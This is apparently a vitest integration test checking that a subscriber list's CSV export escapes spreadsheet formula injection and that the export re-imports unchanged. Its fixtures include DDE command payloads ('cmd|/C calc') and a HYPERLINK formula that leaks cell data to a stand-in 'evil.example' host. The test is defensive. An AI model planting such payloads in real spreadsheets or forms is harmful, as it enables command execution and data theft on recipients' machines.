import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureTables } from '../../../functions/adapters/dynamo/tables.ts';
import { apiDeps } from '../../../functions/handlers/api.ts';
import { createApp } from '../../../functions/http/app.ts';
import { type LocalEngines, startLocalEngines } from '../../../functions/local/engines.ts';
import { createRuntime } from '../../../functions/wiring/runtime.ts';
import { tableNames } from '../../../functions/wiring/settings.ts';
import { cli } from '../../helpers/cli.ts';
import { tempWorkspace } from '../../helpers/workspace.ts';

/**
 * Formulas planted in the list, through an import and through the public signup form, must reach
 * a spreadsheet as text; and our own export, imported into an empty list, must come back exactly.
 */
let engines: LocalEngines;
let ws: Awaited<ReturnType<typeof tempWorkspace>>;
const saved: Record<string, string | undefined> = {};
const PLANTED = "=cmd|'/Ccalc'!A0@example.com";

const CSV = [
  'email,name,status,subscribed_at',
  'ana@example.com,"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")",subscribed,2024-03-01',
  "ben@example.com,+cmd|' /C calc'!A0,subscribed,2024-03-02",
  'cai@example.com,-2+3,subscribed,2024-03-03',
  'dee@example.com,@SUM(A1:A9),pending,2024-03-04',
  "eve@example.com,'Evie,subscribed,2024-03-05",
  '+plus@example.com,Plus,unsubscribed,2024-03-06',
  '-dash@example.com,Dash,subscribed,2024-03-07',
  '',
].join('\n');

const cells = (csv: string) => parse(csv, { relax_column_count: false }) as string[][];
const rowsOf = (csv: string) =>
  (parse(csv, { columns: true }) as Record<string, string>[])
    .map((r) => [r.email, r.name, r.status, r.subscribed_at])
    .sort((a, b) => (String(a[0]) < String(b[0]) ? -1 : 1));

beforeAll(async () => {
  engines = await startLocalEngines();
  ws = await tempWorkspace();
  for (const [key, value] of Object.entries(ws.env)) {
    saved[key] = process.env[key];
    process.env[key] = value;
  }
  const rt = createRuntime({ ...process.env });
  await ensureTables(rt.clients.dynamodb, tableNames(rt.config));
  await writeFile(join(ws.root, 'list.csv'), CSV);
  // A stranger plants one through the signup form.
  const app = createApp({ ...apiDeps(rt), log: undefined });
  const res = await app.request('/subscribe', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ email: PLANTED }),
  });
  expect(res.status).toBe(202);
});
afterAll(async () => {
  for (const [key, value] of Object.entries(saved)) {
    if (value === undefined) delete process.env[key];
    else process.env[key] = value;
  }
  await engines?.stop();
  await ws?.cleanup();
});

describe('CSV export neutralises formulas', () => {
  let exported: string;
  beforeAll(async () => {
    expect((await cli('subscribers', 'import', join(ws.root, 'list.csv'), '--confirmed')).code).toBe(0);
    const out = join(ws.root, 'export.csv');
    expect((await cli('subscribers', 'export', '--out', out)).code).toBe(0);
    exported = await readFile(out, 'utf8');
  });

  it('no cell starts with = + - @, a tab or a CR', () => {
    const all = cells(exported).flat();
    expect(all.length).toBeGreaterThan(40);
    expect(all.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(all).toContain(`'${PLANTED}`);
    expect(all).toContain('\'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")');
    expect(all).toContain("'+cmd|' /C calc'!A0");
  });

  it('stdout gets the same neutralised CSV', async () => {
    const r = await cli('subscribers', 'export');
    expect(r.stdout).toBe(exported);
  });

  it('importing our export into an empty list gives the same list back, cell for cell', async () => {
    const file = join(ws.root, 'export.csv');
    // A second, empty list in the same engine.
    const table = process.env.SUBSCRIBERS_TABLE;
    process.env.SUBSCRIBERS_TABLE = 'digest-subscribers-copy';
    try {
      const copy = createRuntime({ ...process.env });
      await ensureTables(copy.clients.dynamodb, tableNames(copy.config));
      const r = await cli('subscribers', 'import', file, '--confirmed');
      expect(r.code).toBe(0);
      expect(r.stdout).toMatch(/Imported 8 of 8 rows/);
      const again = await cli('subscribers', 'export');
      expect(rowsOf(again.stdout)).toEqual(rowsOf(exported));
      expect(rowsOf(again.stdout).find((row) => row[0] === `'${PLANTED}`)?.[2]).toBe('pending');
      expect(rowsOf(again.stdout).find((row) => row[0] === 'eve@example.com')?.[1]).toBe("'Evie");
    } finally {
      if (table === undefined) delete process.env.SUBSCRIBERS_TABLE;
      else process.env.SUBSCRIBERS_TABLE = table;
    }
  });
});
